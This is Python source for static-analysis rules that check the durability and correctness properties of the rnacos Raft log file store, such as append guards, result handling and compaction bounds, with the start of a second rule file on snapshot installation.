        for b in fb.tree(LM + fn) if fb.has(LM + fn) else []:
            ck.analysed(b)
            for (i, j, s) in b.aggregates(r'raftlog::WriteLogResult$'):
                v = s['rv']['variant']
                vg = util.variant_guards(b, i)
                names = set(x[1] for x in vg if x[0] and x[0].endswith('LogWriteResult'))
                key = '%s:%s' % (b.name, v)
                n += 1
                if v == 'Success':
                    ck.require(bool(names) and names <= {'Success', 'SuccessToEnd'}, 'R02c', key, b.where(i),
                               'Ok(WriteLogResult::Success) is sent under file-write result %s' % (sorted(names) or 'none (unconditional)'),
                               'under %s' % sorted(names))
                elif v == 'Ignore':
                    ck.require(fn == 'write_batch' and not b.parent, 'R02c', key, b.where(i),
                               'WriteLogResult::Ignore acknowledged outside the empty-batch early return')
                elif v == 'LogIndexEqualError':
                    ck.require(names == {'IndexEqualError'}, 'R02c', key, b.where(i), 'LogIndexEqualError sent under %s' % sorted(names))
        if not fb.has(LM + fn):
            ck.body(LM + fn, 'R02c')
            continue
        b = fb.get(LM + fn)
        # the continuation is serialised ahead of later messages (wait, not spawn)
        ck.require(len(b.calls(r'AsyncContext::wait$|ContextFutureSpawner::wait$')) >= 1 and
                   not b.calls(r'ContextFutureSpawner::spawn$|AsyncContext::spawn$'), 'R02c', '%s:ctx.wait' % b.name, b.where(),
                   'the write future is no longer registered with ctx.wait: a later append can overtake it')
    ck.floor('R02c', 'WriteLogResult acknowledgement sites', n, 7)


def r02d(ck, fb):
    ck.rule('R02d', 'LogInnerManager::write: the data write is guarded by end_index == record.index (IndexEqualError on the other edge) '
                    'and no cursor field of self is assigned before that guard')
    w = ck.main(LIM + 'write', 'R02d')
    if not w:
        return
    wa = util.sites_on_field(w, r'AsyncWriteExt::write_all$', 'data_file', deep=1)
    ck.floor('R02d', 'data_file.write_all in write()', len(wa), 1)
    for s in wa:
        ok = False
        gbb = None
        for a in cfg.guard_atoms(w, s.bb):
            if a[0] == 'cmp' and a[1] in ('Ne', 'Eq'):
                da, db = cfg.strip_calls(w, a[2]), cfg.strip_calls(w, a[3])
                sides = [da, db]
                has_idx = any(d['k'] == 'place' and d['fields'][-1:] == ['index'] for d in sides)
                has_end = any(d['k'] == 'call' and (cfg.callee_name(d['term']) or '').endswith('get_end_index') for d in sides)
                pol_ok = (a[1] == 'Ne' and a[4] is False) or (a[1] == 'Eq' and a[4] is True)
                if has_idx and has_end and pol_ok:
                    ok = True
                    gbb = a[5]
        ck.require(ok, 'R02d', 'write:index-equality-guard', s.where(),
                   'data_file.write_all in LogInnerManager::write is not guarded by get_end_index() == record.index: a non-contiguous '
                   'append would be accepted', 'guarded')
        if ok:
            # no cursor assignment can happen before the guard
            pre = cfg.reach_to(w, [gbb])
            early = [f for (o, f, bb, st) in w.field_writes() if bb in pre and bb != gbb and f in
                     ('data_cursor', 'msg_count', 'index_cursor', 'current_index_count', 'last_term')]
            ck.require(not early, 'R02d', 'write:no-cursor-update-before-guard', w.where(),
                       'fields %s are updated before the contiguity guard' % early)
    # the IndexEqualError return exists
    ie = [x for x in w.aggregates(r'raftlog::LogWriteMark$', 'IndexEqualError')]
    ck.require(bool(ie), 'R02d', 'write:IndexEqualError-return', w.where(), 'write() no longer reports IndexEqualError')
    # cursor advance is by the written buffer length and follows the write
    for s in wa:
        adv = [(bb, st) for (o, f, bb, st) in w.field_writes() if f == 'data_cursor']
        ck.require(bool(adv) and all(cfg.dominates_blocks(w, {s.bb}, bb) for bb, st in adv), 'R02d', 'write:cursor-after-write', s.where(),
                   'data_cursor is advanced on a path that did not write the record')
        t = Taint(w, call_src=lambda t: (t.get('f') or {}).get('d', '') == 'std::vec::Vec::<T, A>::len')
        ck.require(all(any(t.op_tainted(x) for x in rv_operands(st['rv'])) for bb, st in adv), 'R02d', 'write:cursor+=buf.len', s.where(),
                   'data_cursor is not advanced by the length of the written buffer')
    mc = [(bb, st) for (o, f, bb, st) in w.field_writes() if f == 'msg_count']
    ck.require(len(mc) == 1, 'R02d', 'write:msg_count-once', w.where(), 'msg_count is assigned %d times in write()' % len(mc))


CHAIN = [
    FS + 'append_entry_to_log', FS + 'replicate_to_log', FS + 'delete_logs_from',
    '<rnacos::raft::filestore::raftlog::RaftLogManager as actix::Handler<rnacos::raft::filestore::raftlog::RaftLogManagerRequest>>::handle',
    LM + 'write', LM + 'write_batch',
    '<rnacos::raft::filestore::raftlog::RaftLogActor as actix::Handler<rnacos::raft::filestore::raftlog::RaftLogRequest>>::handle',
    RL + 'RaftLogActor::receive_req', LIM + 'handle_request', LIM + 'write', LIM + 'strip_log_to', LIM + 'flush_log',
]
# discards that are part of the protocol, one reason each
DISCARD_OK = {
    # sender.send(Some(wrap)).await.ok(): if the channel is closed the following rx.await? fails, so the error is not lost
    ('<rnacos::raft::filestore::raftlog::RaftLogActor as actix::Handler<rnacos::raft::filestore::raftlog::RaftLogRequest>>::handle::{closure#0}', '.ok()'):
        'mpsc send error surfaces as RecvError on the awaited oneshot two lines later',
}


def r02e(ck, fb):
    ck.rule('R02e', 'no Result is discarded (.ok() / unused) on the append chain FileStore::{append_entry_to_log,replicate_to_log} -> '
                    'RaftLogManagerRequest -> RaftLogActor -> LogInnerManager::{handle_request,write}; oneshot `let _ = tx.send(..)` is the '
                    'acknowledgement itself and is judged by R02c')
    n = 0
    for name in CHAIN:
        if not fb.has(name):
            ck.body(name, 'R02e')
            continue
        for b in fb.tree(name):
            ck.analysed(b)
            n += 1
            for (s, how) in util.discard_sites(b):
                if s.expanded:
                    continue
                cal = s.callee or ''
                if re.search(r'(oneshot::Sender|OneshotSender)', cal) and cal.endswith('::send'):
                    continue
                if re.search(r'^std::(vec|collections|option|mem)|::pop$|::insert$|::remove$|::take$|::replace$', cal):
                    continue
                if (b.name, how) in DISCARD_OK and cal.endswith('::ok'):
                    ck.ok('R02e', '%s:%s' % (b.name, cal), s.where(), DISCARD_OK[(b.name, how)])
                    continue
                ck.bad('R02e', '%s:%s' % (b.name, cal), s.where(), 'result of %s is discarded (%s) on the log append chain' % (s.full, how))
            # unwrap_or on write(): must map to an error-ish mark, not Success
            for s in b.calls(r'Result::<T, E>::unwrap_or$'):
                a = util.agg_of(b, s.args[1]) if len(s.args) > 1 else None
                if a and a['adt'].endswith('LogWriteMark'):
                    ck.require(a['variant'] in ('Error', 'Failure'), 'R02e', '%s:unwrap_or(%s)' % (b.name, a['variant']), s.where(),
                               'a failed file write is mapped to LogWriteMark::%s' % a['variant'])
    ck.floor('R02e', 'bodies on the append chain', n, 15)


def r02f(ck, fb):
    ck.rule('R02f', 'every function that changes the list of log files (RaftLogManager.logs push/insert/split_off/reassign) sends '
                    'RaftIndexRequest::SaveLogs on the same path; build_log_actor (load from the catalogue) is the listed exception')
    n = 0
    for b in fb.find('^' + re.escape(LM)):
        if b.parent:
            continue
        muts = []
        for s in b.calls(r'std::vec::Vec::<T, A>::(push|insert|split_off|truncate|pop|remove|clear|drain)$'):
            if util.recv_fields(b, s)[-1:] == ['logs']:
                muts.append((s.bb, s.where(), s.callee.split('::')[-1]))
        for (o, f, bb, st) in b.field_writes():
            if f == 'logs' and o.endswith('RaftLogManager'):
                muts.append((bb, b.where(bb, st.get('ln')), 'assign'))
        if not muts:
            continue
        ck.analysed(b)
        n += 1
        if b.name == LM + 'build_log_actor':
            ck.ok('R02f', b.name, b.where(), 'loads the list from the catalogue')
            continue
        sv = util.send_sites_deep(fb, b, r'RaftIndexRequest$', 'SaveLogs')
        for (bb, where, how) in muts:
            ok = any(cfg.dominates_blocks(b, {s.bb}, bb) or cfg.must_pass_before_return(b, bb, {s.bb}) for (s, _how) in sv)
            ck.require(ok, 'R02f', '%s:%s' % (b.name, how), where,
                       'RaftLogManager.logs is changed (%s) without RaftIndexRequest::SaveLogs on the same path: the catalogue on disk '
                       'keeps naming files the manager dropped' % how, 'paired with SaveLogs')
    ck.floor('R02f', 'functions mutating RaftLogManager.logs', n, 5)


def r02g(ck, fb):
    ck.rule('R02g', 'FileStore::{append_entry_to_log,replicate_to_log,delete_logs_from} await the oneshot receiver and return '
                    'write_log_result_to_result(r); that mapping turns LogIndexEqualError into Err')
    for fn in ('append_entry_to_log', 'replicate_to_log', 'delete_logs_from'):
        b = ck.main(FS + fn, 'R02g')
        if not b:
            continue
        m = b.calls(r'FileStore::write_log_result_to_result$')
        ck.require(len(m) >= 1, 'R02g', fn + ':maps-result', b.where(), 'result of the oneshot is not mapped through write_log_result_to_result')
        if m:
            t = Taint(b, call_src=lambda t: 'oneshot::channel' in (t.get('f') or {}).get('d', ''))
            ck.require(t.op_tainted(m[0].args[0]), 'R02g', fn + ':awaits-oneshot', m[0].where(),
                       'the mapped value does not come from the oneshot receiver')
            t0 = Taint(b, local_src=[m[0].dst] if isinstance(m[0].dst, int) else [])
            ck.require(m[0].dst == 0 or t0.local_tainted(0), 'R02g', fn + ':returns-mapped', m[0].where(), 'mapped result is not returned')
        sd = util.sends(b, r'RaftLogManagerRequest$')
        ck.require(len(sd) >= 1 and all(_x[0].callee.endswith('::send') for _x in sd), 'R02g', fn + ':send', b.where(), 'request is not sent with send().await')
    b = ck.body('rnacos::raft::filestore::core::FileStore::write_log_result_to_result', 'R02g')
    if b:
        errs = b.aggregates(r'std::result::Result$', 'Err')
        ok = False
        for (i, j, s) in errs:
            if ('rnacos::raft::filestore::raftlog::WriteLogResult', 'LogIndexEqualError') in util.variant_guards(b, i):
                ok = True
        # Ok must not be reachable under LogIndexEqualError
        for (i, j, s) in b.aggregates(r'std::result::Result$', 'Ok'):
            if ('rnacos::raft::filestore::raftlog::WriteLogResult', 'LogIndexEqualError') in util.variant_guards(b, i):
                ok = False
        ck.require(ok, 'R02g', 'write_log_result_to_result:LogIndexEqualError->Err', b.where(), 'LogIndexEqualError is not mapped to Err')


def r02h(ck, fb, R='R02h'):
    ck.rule(R, 'zero terminator: LogInnerManager::write extends the file whenever file_len <= data_cursor + len (non-strict), so that at least '
                    'one zero byte follows the last record - the end-of-log recovery scan (move_to_index_by_count) stops on the first zero length '
                    'and does not count the records it scanned when it runs into end-of-file instead')
    w = ck.main(LIM + 'write', R)
    if not w:
        return
    sl = util.sites_on_field(w, r'tokio::fs::File::set_len$', 'data_file')
    ck.floor(R, 'set_len in write()', len(sl), 1)
    # the terminator is only needed while the recovery scan forgets what it counted when it runs into end of file (see R04k): with a scan that
    # counts on every exit a record may end exactly at the end of the file
    from rules.c04 import recovery_counts_on_every_exit
    if recovery_counts_on_every_exit(fb):
        ck.ok(R, 'write:extend-keeps-zero-terminator', w.where(), 'not required: move_to_index_by_count counts the scanned records on its end-of-file exit')
        return
    for s in sl:
        ok = False
        for a in cfg.guard_atoms(w, s.bb):
            if a[0] != 'cmp':
                continue
            da, db = cfg.strip_calls(w, a[2]), cfg.strip_calls(w, a[3])
            fa = da['k'] == 'place' and da['fields'][-1:] == ['file_len']
            fbb = db['k'] == 'place' and db['fields'][-1:] == ['file_len']
            # file_len <= X (true) | X >= file_len (true) | file_len > X (false) | X < file_len (false)
            if fa and ((a[1] == 'Le' and a[4] is True) or (a[1] == 'Gt' and a[4] is False)):
                ok = True
            if fbb and ((a[1] == 'Ge' and a[4] is True) or (a[1] == 'Lt' and a[4] is False)):
                ok = True
        ck.require(ok, R, 'write:extend-keeps-zero-terminator', s.where(),
                   'the file is only extended when file_len < data_cursor + len (strict): a record may end exactly on the end of the file, the recovery scan '
                   'then hits end-of-file instead of a zero length and forgets every entry after the last 128-record index entry on reopen')
        wa = util.sites_on_field(w, r'AsyncWriteExt::write_all$', 'data_file', deep=1)
        ck.require(bool(wa) and all(s.bb in cfg.reach_to(w, [x.bb]) for x in wa), R, 'write:extend-before-write', s.where(), 'the extension does not precede the data write')


def r02i(ck, fb, R='R02i'):
    ck.rule(R, 'end-of-log detection: MessageBufReader::is_empty, which move_to_index_by_count uses after draining each 1024-byte chunk to '
               'recognise the zero padding, is true exactly when a valid byte exists and is zero (interpreted on every state class) - a drained '
               'chunk or a stale byte behind `end` must not end the scan')
    from rules.c20 import is_empty_table
    is_empty_table(ck, fb, R)
    mv = ck.main(LIM + 'move_to_index_by_count', R)
    if mv:
        ck.require(len(util.region_calls(fb, mv, r'MessageBufReader::is_empty$')) >= 1, R,
                   'move_to_index_by_count:uses-is_empty', mv.where(), 'the recovery scan no longer asks the reader for the end marker')


def r02m(ck, fb, R='R02m'):
    ck.rule(R, 'the compaction bound of a partially covered log file is durable: in RaftLogManager::split_off every RaftLogRequest::SplitOff(x) handed '
               'to a file actor is accompanied on the same path by the assignment log_range.split_off_index = x. The LogRange list is the only copy '
               'that is saved (SaveLogs) and from which a file actor is recreated; without the assignment compacted entries are returned again '
               'after a restart, in front of the snapshot pointer')
    b = ck.body(LM + 'split_off', R)
    if not b:
        return
    sd = util.sends(b, r'RaftLogRequest$', 'SplitOff')
    ck.floor(R, 'SplitOff sends in split_off', len(sd), 1)
    ws = [(bb, st) for (o, f, bb, st) in b.field_writes() if f == 'split_off_index']
    for (s0, m0, v0, a0) in sd:
        t = Taint(b, local_src=[l for l in range(1, b.argc + 1) if b.local_ty(l) == 'u64'])
        ok = any((bb == s0.bb or s0.bb in cfg.reach_from(b, [bb]) or bb in cfg.reach_from(b, [s0.bb])) and
                 cfg.dominates_blocks(b, {bb}, s0.bb) and any(t.op_tainted(x) for x in rv_operands(st['rv'])) for (bb, st) in ws)
        ck.require(ok, R, 'split_off:bound-recorded-in-log-range', s0.where(),
                   'the file actor is told the new split-off bound but the LogRange entry keeps the old one: the bound is lost with the actor')


def r02n(ck, fb, R='R02n'):
    ck.rule(R, 'the last term reported after a reopen is the term of the LAST record: LogInnerManager::init re-reads it with read_records(end-1, end) '
               'where end is the exclusive end index (get_end_index / start_index + msg_count), not the inclusive last index of '
               'get_last_index_info(); one less, and a node that restarts right after a leader change reports the previous term for its last entry')
    b = ck.main(LIM + 'init', R)
    if not b:
        return
    rr = b.calls(re.escape(LIM + 'read_records') + '$')
    ck.floor(R, 'read_records in init', len(rr), 1)
    good = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('LogInnerManager::get_end_index'), place_src=field_place_src('msg_count'))
    bad = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('LogInnerManager::get_last_index_info'))
    for s0 in rr:
        up = s0.args[2] if len(s0.args) > 2 else None
        ok = up is not None and good.op_tainted(up) and not bad.op_tainted(up)
        ck.require(ok, R, 'init:last-term-from-last-record', s0.where(),
                   'the record whose term becomes last_term is read up to %s, which is not the exclusive end index: the second-to-last record is read' %
                   (cfg.fmt_desc(cfg.describe_operand(b, up))[:60] if up is not None else '?'))


def r02o(ck, fb, R='R02o'):
    ck.rule(R, 'a batch that was written completely is acknowledged as written, also when its last record fills the log file: in the WriteBatch arm '
               'of LogInnerManager::handle_request the running index counts the records written so far (it is advanced after each successful write), '
               'so "all written" is running index == list.len(); in the SuccessToEnd arm nothing may be computed from running index + 1 (the '
               'resume index of FailureBatch would be len + 1, the manager resends list[len+1..] to the next file and the log actor panics)')
    b = ck.main(LIM + 'handle_request', R)
    if not b:
        return
    from rn.facts import op_place, pl_local, pl_proj

    def root(op, depth=0):
        pl = op_place(op)
        if pl is None or pl_proj(pl):
            return None
        l = pl_local(pl)
        ds = b.defs.get(l, [])
        if depth < 6 and len(ds) == 1 and ds[0][0] == 'stmt' and ds[0][3]['rv']['k'] == 'use':
            r = root(ds[0][3]['rv']['op'], depth + 1)
            return r if r is not None else l
        return l
    # running indexes: locals with a definition `l = (l + 1).0` inside a loop
    plus1 = []     # (block, stmt, base local)
    for (i, j, st) in b.stmts():
        rv = st.get('rv')
        if rv and rv['k'] == 'bin' and rv['op'] in ('Add', 'AddWithOverflow') and 'c' in rv['b'] and str(rv['b']['c'].get('v')) == '1' and rv['b']['c'].get('ty') == 'usize':
            r = root(rv['a'])
            if r is not None:
                plus1.append((i, st, r))
    counters = set()
    for (i, st, r) in plus1:
        # the sum flows back into r in a loop
        tgt = st.get('d')
        for kind, bb, jj, node in b.defs.get(r, []):
            if kind == 'stmt' and node['rv']['k'] == 'use':
                src = op_place(node['rv']['op'])
                if src is not None and pl_local(src) == tgt and i in cfg.reach_from(b, [bb]) and bb in cfg.reach_from(b, [i]):
                    counters.add(r)
    if not ck.require(len(counters) >= 1, R, 'WriteBatch:running-index', b.where(), 'the running index of the batch loop was not found'):
        return
    n = 0
    bad = []
    for (i, st, r) in plus1:
        if r not in counters:
            continue
        atoms = cfg.guard_atoms(b, i)
        if any(a[0] in ('variant',) and a[2] == 'SuccessToEnd' for a in atoms):
            n += 1
            bad.append(b.where(i))
    ck.require(not bad, R, 'WriteBatch:SuccessToEnd-uses-written-count', bad[0] if bad else b.where(),
               'in the SuccessToEnd arm the running index + 1 is compared with list.len() / used as resume index: the batch whose last record fills '
               'the file (173056 records of 130 bytes, then a one-record batch) is answered FailureBatch with resume index 2 of 1')
    ck.ok(R, 'WriteBatch:counters', b.where(), '%d running index(es)' % len(counters))


def r02p(ck, fb, R='R02p'):
    ck.rule(R, 'the last-term re-read on reopen is not hidden by the compaction bound: read_records clamps its range to split_off_index, so in '
               'LogInnerManager::init the read of the last record must happen while split_off_index does not yet depend on the split_off_index '
               'parameter (a file whose whole content is compacted - the normal state after a snapshot at its last index - otherwise reports the '
               'file\'s pre_term as the term of its last entry after a restart)')
    b = ck.main(LIM + 'init', R)
    if not b:
        return
    rr = b.calls(re.escape(LIM + 'read_records') + '$')
    if not rr:
        return
    # the split_off_index parameter: in the coroutine body it is an upvar field of _1; taint by name of the debug local
    plocals = [l for l in range(len(b.locals)) if (b.locals[l].get('n') or '') == 'split_off_index']
    if not ck.require(len(plocals) >= 1, R, 'init:param', b.where(), 'parameter split_off_index not found'):
        return
    tp = Taint(b, local_src=plocals)
    early = []
    for (i, j, st) in b.aggregates(r'raftlog::LogInnerManager$'):
        rv = st['rv']
        if 'split_off_index' in rv.get('fields', []):
            op = rv['ops'][rv['fields'].index('split_off_index')]
            if tp.op_tainted(op) and any(s0.bb in cfg.reach_from(b, [i]) for s0 in rr):
                early.append(b.where(i))
    for (o, f, bb, st) in b.field_writes():
        if f == 'split_off_index' and any(tp.op_tainted(x) for x in rv_operands(st['rv'])) and any(s0.bb in cfg.reach_from(b, [bb]) and s0.bb != bb for s0 in rr):
            early.append(b.where(bb))
    ck.require(not early, R, 'init:last-record-read-before-compaction-bound', early[0] if early else b.where(),
               'split_off_index already carries the compaction bound when the last record is re-read through read_records: for a fully compacted file '
               'the read is empty and last_term stays pre_term (reopen of entries with terms 1,1,1,2,2 and split_off_index 5 reports term 1)')


def r02q(ck, fb, R='R02q'):
    ck.rule(R, 'what the log accepts it can read back: entries are stored as serde_json of ClientRequest, FileStore::get_log_entries and the start-up '
               'replay skip a record whose payload does not parse. serde_json writes a non-finite float as null and the derived decoder of a bare '
               'f32 / f64 field rejects null - so every float field of a type reachable from ClientRequest needs a decoder of its own '
               '(deserialize_with), otherwise an acknowledged entry (a persistent instance registered with weight=NaN) is never returned again: '
               'not to followers, not to the replay')
    float_fields_decode_null(ck, fb, R, ['rnacos::raft::store::ClientRequest'], 'log payload types', 20,
                             'POST /nacos/v1/ns/instance with ephemeral=false&weight=NaN is acknowledged and appended; get_log_entries(1,4) returns indexes [1, 3]')


def float_fields_decode_null(ck, fb, R, roots, what, floor, example):
    """every bare f32 / f64 field of a type reachable from `roots` is decoded by a decoder of its own (not by the derived float decoder)"""
    for r0 in roots:
        if not ck.require(r0 in fb.adts, R, 'anchor:%s' % r0.split('::')[-1], '-', '%s not found' % r0):
            return
    seen = set()
    stack = list(roots)
    while stack:
        a = stack.pop()
        if a in seen or a not in fb.adts:
            continue
        seen.add(a)
        for v in fb.adts[a]['variants']:
            for f in v['fields']:
                for m in re.findall(r'rnacos::[A-Za-z0-9_:]+', f[1]):
                    if m in fb.adts and m not in seen:
                        stack.append(m)
    ck.floor(R, 'types reachable from %s' % ', '.join(x.split('::')[-1] for x in roots), len(seen), floor)
    floats = [(a, f[0], f[1]) for a in sorted(seen) for v in fb.adts[a]['variants'] for f in v['fields'] if re.fullmatch(r'f(32|64)', f[1])]
    ck.info(R, 'bare float fields in %s: %s' % (what, [(a.split('::')[-1], f) for (a, f, _) in floats]))
    for (a, f, ty) in floats:
        plain = []
        for b in fb.bodies.values():
            if ('Deserialize<\'de> for ' + a + '>') not in b.name:
                continue
            for s0 in b.sites:
                if re.search(r'(next_value|next_element)$', s0.callee or '') and ty in (s0.gargs or []):
                    plain.append(s0)
        ck.require(not plain, R, 'float-field-decodes-null:%s.%s' % (a.split('::')[-1], f), plain[0].where() if plain else '-',
                   '%s.%s is decoded by the derived %s decoder, which rejects the null that serde_json writes for NaN / infinity: %s' % (a.split('::')[-1], f, ty, example),
                   'decoded by a field decoder of its own')


def r02r(ck, fb, R='R02r'):
    ck.rule(R, 'a snapshot pointer that lies below the start of the log is never written: RaftLogManager::begin_ready_to_load remembers the pointers of '
               'the last two local compactions and writes the older one at the next compaction; InstallSnapshotPointerLog replaces the log by an '
               'installed snapshot in between. Either the install arm forgets the remembered pointers (assigns both fields), or the write of a '
               'remembered pointer is guarded by a comparison of its index with the first range of the log. Otherwise an entry the install removed '
               'comes back in front of the log, also after a reopen')
    LMQ = 'rnacos::raft::filestore::raftlog::RaftLogManager::'
    b = ck.body(LMQ + 'begin_ready_to_load', R)
    if not b:
        return
    REM = ('last_ready_snapshot_pointer', 'pre_ready_snapshot_pointer')
    rem = Taint(b, place_src=lambda p: pl_fields(p)[-1:] in ([REM[0]], [REM[1]]), through_calls=True)
    saves = [s0 for s0 in b.calls(re.escape(LMQ + 'save_new_snapshot_pointer') + '$') if len(s0.args) >= 3 and rem.op_tainted(s0.args[2])]
    if not ck.require(len(saves) >= 1, R, 'anchor:remembered-pointer-write', b.where(), 'begin_ready_to_load no longer writes a remembered pointer'):
        return
    # (a) the install arm forgets
    h = fb.bodies.get('<rnacos::raft::filestore::raftlog::RaftLogManager as actix::Handler<rnacos::raft::filestore::raftlog::RaftLogManagerRequest>>::handle')
    forgets = set()
    if h is not None:
        for x in util.region(fb, h, 1):
            for (o, f, bb, st) in x.field_writes():
                if f in REM:
                    if x is h and ('rnacos::raft::filestore::raftlog::RaftLogManagerRequest', 'InstallSnapshotPointerLog') not in util.variant_guards(h, bb):
                        continue
                    if x is not h and x.name == b.name:
                        continue
                    forgets.add(f)
            for s0 in x.calls(r'Option::<T>::take$'):
                if util.recv_fields(x, s0)[-1:] and util.recv_fields(x, s0)[-1] in REM and x.name != b.name:
                    if x is h and ('rnacos::raft::filestore::raftlog::RaftLogManagerRequest', 'InstallSnapshotPointerLog') not in util.variant_guards(h, s0.bb):
                        continue
                    forgets.add(util.recv_fields(x, s0)[-1])
    # (b) the write is guarded by pointer.index against the log start
    guarded = True
    for s0 in saves:
        idx = Taint(b, place_src=lambda p: pl_fields(p)[-1:] == ['index'])
        log0 = Taint(b, place_src=lambda p: any(f in ('logs', 'start_index', 'split_off_index') for f in pl_fields(p)))
        ok = False
        for a in cfg.guard_atoms(b, s0.bb):
            sw = a[-1]
            term = b.blocks[sw]['t'] if isinstance(sw, int) and sw < len(b.blocks) else None
            if term is not None and term.get('k') == 'switch' and idx.op_tainted(term['discr']) and log0.op_tainted(term['discr']):
                ok = True
        # an early return on the comparison also protects the site: the comparison switch dominates it and one of its edges cannot reach it
        if not ok:
            for i, blk in enumerate(b.blocks):
                t = blk['t']
                if i in cfg.live_blocks(b) and t['k'] == 'switch' and idx.op_tainted(t['discr']) and log0.op_tainted(t['discr']) and i != s0.bb:
                    outs = [tb for (_, tb) in t['targets']] + [t['otherwise']]
                    if any(s0.bb not in cfg.reach_from(b, [tb]) and tb != s0.bb for tb in outs) and s0.bb in cfg.reach_from(b, [i]):
                        ok = True
        guarded = guarded and ok
    ck.require(len(forgets) == 2 or guarded, R, 'begin_ready_to_load:remembered-pointer-not-below-log', saves[0].where(),
               'a pointer remembered before a snapshot install is written after it: replicate 1..=60, compact at 50, install snapshot 100, replicate '
               '101..=160, compact at 150: get_log_entries(0, MAX) starts [50, 100, 101, ...], before and after a reopen',
               'install forgets the remembered pointers' if len(forgets) == 2 else 'guarded by pointer index vs start of the log')


def r02s(ck, fb, R='R02s'):
    ck.rule(R, 'the preallocated length never cuts a record: LogInnerManager::write tracks the length it set_len()s the data file to in `file_len`; '
               'when a record does not fit, the new length is derived from the length of that record (data_cursor + len, or the old length plus at '
               'least len). A fixed step smaller than the record leaves file_len inside the record, and the next growth truncates the file there: '
               'the entry was acknowledged, keeps its length prefix (counts and last index stay right) and no longer decodes after a reopen')
    w = ck.main(LIM + 'write', R)
    if not w:
        return
    n = 0
    reg = util.region(fb, w)
    for x in reg:
        tl = Taint(x, call_src=lambda t: (t.get('f') or {}).get('d', '') == 'std::vec::Vec::<T, A>::len' or (t.get('f') or {}).get('d', '').endswith('slice::<impl [T]>::len'))
        for (o, f, bb, st) in x.field_writes():
            if f != 'file_len' or not o.endswith('LogInnerManager'):
                continue
            n += 1
            ck.require(any(tl.op_tainted(y) for y in rv_operands(st['rv'])), R, 'write:file_len-follows-record-length', x.where(bb),
                       'the data file is grown to a length that does not depend on the size of the record being written: a record longer than the step '
                       '(a 3 MiB config against a 1 MiB step) ends beyond file_len, and the set_len of a later write truncates it',
                       'new length derived from the record length')
    ck.floor(R, 'assignments of file_len in write()', n, 1)
