"""C08 A node caught up by snapshot install serves the same data as the leader."""
import re
from rn import cfg, util
from rn.flow import Taint, field_place_src
from . import c01, c04

RA = 'rnacos::raft::filestore::raftapply::'
SA = RA + 'StateApplyManager::'
RD = 'rnacos::raft::filestore::raftdata::RaftDataHandler::'
FS = c04.FS
LM = 'rnacos::raft::filestore::raftlog::RaftLogManager::'


def run(ck, fb):
    _run0(ck, fb)
    r08f(ck, fb)
    r08g(ck, fb)
    r08h(ck, fb)
    r08j(ck, fb)
    r08k(ck, fb)
    r08l(ck, fb)
    r08m(ck, fb)
    r08n(ck, fb)
    r08q(ck, fb)
    r08r(ck, fb)
    ck.borrow('rules.c01', {'R01ac': 'R08p'}, 'a late joiner is filled from a snapshot: it must list the namespaces in the order the leader serves them')
    ck.borrow('rules.c05', {'R05h': 'R08i'}, 'the membership saved when a snapshot is installed must be the one recorded in that snapshot')


def _run0(ck, fb):
    ck.explanation = (
        'Decides necessary conditions of "an installed snapshot becomes the served state": (a) on the call graph (with actix message '
        'edges) finalize_snapshot_installation reaches RaftDataHandler::load_snapshot - the same loader start-up uses - through '
        'ApplySnapshot -> apply_snapshot -> do_load_snapshot, awaited inside the ctx.wait future; (b) the membership of the snapshot '
        'header is sent to the index manager (SaveMember fields tainted by the header); (c) the install file is truncated when reopened; '
        '(d) catalogue before pointer log (install order); (e) the pointer log range is inserted into the log list together with SaveLogs.')
    ck.undecided = 'Does not decide equality of follower and leader state, nor what happens to keys the follower has and the snapshot lacks.'
    cg = c01.get_cg(fb)
    ck.rule('R08a', 'install reaches the state-machine loader: call-graph path finalize_snapshot_installation -> Handler<StateApplyRequest> '
                    '-> apply_snapshot -> do_load_snapshot -> RaftDataHandler::load_snapshot')
    start = FS + 'finalize_snapshot_installation'
    if not fb.has(start):
        ck.body(start, 'R08a')
    else:
        ck.analysed(start)
        p = cg.path(start, lambda n: n == RD + 'load_snapshot' or n.startswith(RD + 'load_snapshot::'))
        ck.require(p is not None, 'R08a', 'install-reaches-load_snapshot', fb.get(start).where(),
                   'no call-graph path from finalize_snapshot_installation to RaftDataHandler::load_snapshot: an installed snapshot is '
                   'catalogued but its records never reach the live components (the node serves them only after a restart)',
                   ' -> '.join(x.split('::')[-2] + '::' + x.split('::')[-1] for x in (p or [])))
        ck.extra['install_path'] = p
    ap = ck.body(SA + 'apply_snapshot', 'R08a')
    if ap:
        inner = fb.tree(SA + 'apply_snapshot')[1:]
        ld = [(b, s) for b in inner for s in b.calls(re.escape(SA + 'do_load_snapshot') + '$')]
        ck.require(len(ld) == 1 and util.awaited(ld[0][0], ld[0][1]), 'R08a', 'apply_snapshot:awaits-load', ap.where(),
                   'apply_snapshot does not await do_load_snapshot inside its future')
        ck.require(len(ap.calls(r'ContextFutureSpawner::wait$|AsyncContext::wait$')) >= 1, 'R08a', 'apply_snapshot:ctx.wait', ap.where(),
                   'the install future is not serialised with ctx.wait: later ApplyBatchRequests could overtake the snapshot load')
        rd = [(b, s) for b in inner for s in b.calls(r'SnapshotReader::init_by_file$')]
        ck.require(len(rd) >= 1, 'R08a', 'apply_snapshot:reads-installed-file', ap.where(), 'the installed file is not opened with SnapshotReader::init_by_file')
        if ld and rd:
            b, s = ld[0]
            t = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('SnapshotReader::init_by_file'))
            ck.require(any(t.op_tainted(a) for a in s.args), 'R08a', 'apply_snapshot:loads-that-reader', s.where(), 'do_load_snapshot is not given the reader of the installed file')
    ck.rule('R08b', 'membership from the snapshot header is persisted: apply_snapshot sends RaftIndexRequest::SaveMember whose member / '
                    'member_after_consensus / node_addr are tainted by the header of the installed file')
    if ap:
        inner = fb.tree(SA + 'apply_snapshot')[1:]
        sm = [(b, x) for b in inner for x in util.sends(b, r'RaftIndexRequest$', 'SaveMember')]
        ck.require(len(sm) >= 1, 'R08b', 'apply_snapshot:SaveMember', ap.where(), 'SaveMember is not sent on install')
        for (b, (s, m, v, a)) in sm:
            t = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('SnapshotReader::get_header'))
            for f in ('member', 'member_after_consensus', 'node_addr'):
                ck.require(t.op_tainted(a['ops'][a['fields'].index(f)]), 'R08b', 'apply_snapshot:SaveMember.%s<-header' % f, s.where(),
                           'SaveMember.%s does not come from the snapshot header' % f)
            # member specifically from header.member
            tm = Taint(b, place_src=field_place_src('member'))
